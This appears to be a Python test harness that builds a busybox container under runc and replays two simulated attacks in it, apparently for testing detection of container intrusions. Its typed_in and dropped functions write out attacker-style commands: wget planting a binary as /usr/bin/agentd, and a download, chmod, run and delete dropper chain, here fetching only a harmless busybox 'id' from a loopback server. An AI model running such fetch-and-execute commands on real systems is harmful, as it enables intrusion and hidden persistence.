"""A real container made of a busybox, and the two attacks played in it."""

from __future__ import annotations

import contextlib
import http.server
import json
import os
import pty
import secrets
import shutil
import subprocess
import threading
from collections.abc import Iterator
from functools import partial
from pathlib import Path

CAPABILITIES = ["CAP_CHOWN", "CAP_DAC_OVERRIDE", "CAP_FOWNER", "CAP_SETGID", "CAP_SETUID", "CAP_KILL"]
APPLETS = ("sh", "wget", "chmod", "rm", "id", "sleep")
SECONDS = 10.0
"""How long an attack may take."""

TOOL = "id"
"""What both attacks download is a busybox, which does what its name says."""


def typed_in(address: str) -> str:
    """Somebody with a terminal puts a program among the system's."""
    return f"wget -q {address}/{TOOL} -O /usr/bin/agentd\nexit\n"


def dropped(address: str) -> str:
    """A script downloads a program, runs it and removes it."""
    return f"wget -q {address}/{TOOL} -O /tmp/{TOOL}; chmod +x /tmp/{TOOL}; /tmp/{TOOL}; rm /tmp/{TOOL}"


class Container:
    """Runs commands in containers that share a root file system below `folder`, one after another."""

    def __init__(self, runc: str, busybox: Path, folder: Path) -> None:
        self._runc = [runc, "--root", str(folder / "state")]
        self._bundle = folder / "bundle"
        root = self._bundle / "rootfs"
        for name in ("bin", "dev", "etc", "proc", "root", "tmp", "usr/bin"):
            (root / name).mkdir(parents=True)
        shutil.copy(busybox, root / "bin" / "busybox")
        for applet in APPLETS:
            (root / "bin" / applet).symlink_to("busybox")

    def run(self, *command: str) -> str:
        """Run the command without a terminal; the container's id."""
        with self._container(command, terminal=False) as (identity, start):
            subprocess.run(start, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, check=True, timeout=SECONDS)
        return identity

    def type(self, keys: str, *command: str) -> str:
        """Run the command on a pseudo terminal of its own and type the keys; the container's id."""
        with self._container(command, terminal=True) as (identity, start):
            ours, theirs = pty.openpty()
            with os.fdopen(ours, "r+b", buffering=0) as terminal:
                process = subprocess.Popen(start, stdin=theirs, stdout=theirs, stderr=theirs, start_new_session=True)
                os.close(theirs)
                terminal.write(keys.encode())
                threading.Thread(target=_drain, args=(ours,), daemon=True).start()
                process.wait(SECONDS)
        return identity

    @contextlib.contextmanager
    def _container(self, command: tuple[str, ...], *, terminal: bool) -> Iterator[tuple[str, list[str]]]:
        identity = secrets.token_hex(32)
        (self._bundle / "config.json").write_text(json.dumps(_config(command, terminal=terminal)))
        try:
            yield identity, [*self._runc, "run", "--bundle", str(self._bundle), identity]
        finally:
            subprocess.run([*self._runc, "delete", "--force", identity], capture_output=True, check=False)


@contextlib.contextmanager
def served(busybox: Path, folder: Path) -> Iterator[str]:
    """The address of a web server on the loopback device that has the tool."""
    folder.mkdir()
    shutil.copy(busybox, folder / TOOL)
    handler = partial(_Quiet, directory=str(folder))
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        try:
            yield f"http://127.0.0.1:{server.server_port}"
        finally:
            server.shutdown()


class _Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *_: object) -> None:
        pass


def _drain(terminal: int) -> None:
    with contextlib.suppress(OSError):  # the other side is gone
        while os.read(terminal, 65536):
            pass


def _config(command: tuple[str, ...], *, terminal: bool) -> dict[str, object]:
    """An OCI runtime configuration; the network is the host's, for the web server."""
    sets = dict.fromkeys(("bounding", "effective", "permitted"), CAPABILITIES)
    return {
        "ociVersion": "1.0.2",
        "hostname": "demo",
        "root": {"path": "rootfs"},
        "process": {
            "terminal": terminal,
            "user": {"uid": 0, "gid": 0},
            "args": command,
            "env": ["PATH=/bin:/usr/bin"],
            "cwd": "/",
            "capabilities": sets,
        },
        "mounts": [
            {"destination": "/proc", "type": "proc", "source": "proc"},
            {"destination": "/dev", "type": "tmpfs", "source": "tmpfs", "options": ["nosuid", "mode=755"]},
            {
                "destination": "/dev/pts",
                "type": "devpts",
                "source": "devpts",
                "options": ["newinstance", "ptmxmode=0666"],
            },
        ],
        "linux": {"namespaces": [{"type": kind} for kind in ("pid", "ipc", "uts", "mount")]},
    }
